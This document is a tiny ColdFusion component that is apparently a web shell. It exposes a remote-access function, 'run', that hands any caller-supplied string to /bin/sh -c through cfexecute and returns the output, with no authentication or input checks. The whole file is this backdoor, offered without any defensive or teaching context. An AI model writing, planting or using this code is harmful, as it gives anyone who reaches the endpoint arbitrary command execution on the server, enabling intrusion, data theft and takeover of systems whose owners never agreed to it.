component {
  remote any function run(string c) returnformat="plain" {
    cfexecute(name="/bin/sh", arguments="-c '#c#'", variable="o", timeout=10);
    return o;
  }
}
